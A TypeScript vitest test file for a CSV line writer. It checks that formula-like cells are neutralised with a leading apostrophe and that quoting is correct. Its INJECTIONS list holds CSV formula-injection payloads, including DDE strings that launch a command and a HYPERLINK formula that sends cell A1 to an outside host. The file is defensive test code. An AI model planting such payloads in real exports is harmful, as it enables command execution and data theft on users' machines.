import { describe, expect, it } from "vitest";
import { csvLine } from "./csv.ts";

/** Cells that run something in a spreadsheet that opens them. */
const INJECTIONS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  '"=1+1',
  "'=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=1+1";=1+1',
  "a",
] as const;

describe("a line of CSV", () => {
  it("holds no cell that a spreadsheet runs as a formula", () => {
    for (const text of INJECTIONS) {
      const line = csvLine([text]);
      const shown = line.slice(1, -3).replaceAll('""', '"');
      if (text === "a") expect(shown).toBe(text);
      else expect(shown, JSON.stringify(text)).toBe(`'${text}`);
    }
  });

  it("keeps quotes, commas and line breaks inside their cell", () => {
    expect(csvLine(['a"b', "c,d", "e\r\nf", null, -5])).toBe('"a""b","c,d","e\r\nf","","-5"\r\n');
  });
});
